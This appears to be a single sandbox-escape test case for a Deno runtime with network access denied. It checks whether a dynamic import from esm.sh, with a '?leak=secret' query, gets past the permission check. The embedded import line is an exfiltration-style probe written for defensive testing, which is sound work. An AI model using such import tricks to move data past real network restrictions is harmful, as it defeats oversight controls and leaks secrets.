# id: net-import-https-default-hosts
# category: network
# goal: use Deno's built-in import allow-list (deno.land, esm.sh, ...) as a way out although net is denied
# success-if: BREACH: the import passed the permission check (no NotCapable / no-remote / cached-only error)
# needs: netns
# with: prelude.py

await claim(r"""
import("https://esm.sh/canary-not-a-package?leak=secret").then(() => "imported").catch(e => { if (/Requires import|NotCapable|no-remote|cached-only|remote specifier|not allowed|disabled/i.test(e.message)) throw e; return "passed the check, network tried: " + e.message.slice(0,100) })
""")
